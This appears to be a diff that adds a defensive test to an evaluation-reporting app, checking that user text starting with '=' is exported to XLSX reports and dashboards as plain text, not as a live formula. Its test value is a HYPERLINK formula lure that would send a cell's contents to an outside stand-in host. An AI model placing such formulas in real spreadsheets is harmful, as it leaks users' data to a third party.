@@ -134,6 +134,50 @@ describe('download file names from user text', () => {
   });
 });
 
+describe('spreadsheet exports of text that looks like a formula', () => {
+  const LURE = '=HYPERLINK("http://x.example/?"&A1,"点我")';
+  /** Every cell of every sheet: formulas as `=…`, text as it is. */
+  async function cells(bytes: Buffer): Promise<{ formulas: string[]; texts: string[] }> {
+    const { default: Excel } = await import('exceljs');
+    const wb = new Excel.Workbook();
+    await wb.xlsx.load(bytes as never);
+    const out = { formulas: [] as string[], texts: [] as string[] };
+    wb.eachSheet((ws) =>
+      ws.eachRow((row) =>
+        row.eachCell((c) => {
+          const v = c.value as unknown;
+          if (v && typeof v === 'object' && 'formula' in v) out.formulas.push(String((v as { formula: string }).formula));
+          else if (typeof v === 'string') out.texts.push(v);
+        }),
+      ),
+    );
+    return out;
+  }
+
+  it('keeps a deviation reason and a unit name starting with = as text cells in the 自评表 and the dashboard', async () => {
+    const e = (await filler.get(`/api/evaluations/${env.targets.own.evaluationId}`)).json() as Record<string, unknown> & {
+      version: number;
+      indicators: Record<string, unknown>[];
+    };
+    const { title, reportDate, profile, budget, budgetLines, threePublic, indicators, keyProjects, sections } = e;
+    const lured = indicators.map((i, k) => (k === 0 ? { ...i, deviationReason: LURE } : i));
+    const saved = await filler.send('PUT', `/api/evaluations/${env.targets.own.evaluationId}`, {
+      version: e.version,
+      content: { title, reportDate, profile, budget, budgetLines, threePublic, indicators: lured, keyProjects, sections },
+    });
+    expect(saved.statusCode, saved.body).toBe(200);
+    const sheet = await cells((await filler.get(`/api/evaluations/${env.targets.own.evaluationId}/report?format=xlsx`)).rawPayload);
+    expect(sheet.texts).toContain(LURE);
+    expect(sheet.formulas.filter((f) => /HYPERLINK/i.test(f))).toEqual([]);
+
+    const unit = await admin.send('POST', '/api/admin/units', { name: LURE, code: 'FX1', type: '妇联', level: 'county', parentId: null, fromYear: 2022 });
+    expect(unit.statusCode, unit.body).toBe(201);
+    const board = await cells((await admin.get(`/api/dashboard/${(unit.json() as { id: string }).id}/export?year=2022`)).rawPayload);
+    expect(board.texts.some((t) => t.includes(LURE))).toBe(true);
+    expect(board.formulas.filter((f) => /HYPERLINK/i.test(f))).toEqual([]);
+  });
+});
+
 describe('absurd figures', () => {
   it('refuses a report date of 9999-12-31, negative budgets and negative key-project counts with 400', async () => {
     const e = (await filler.get(`/api/evaluations/${env.targets.own.evaluationId}`)).json() as Record<string, unknown> & { version: number };
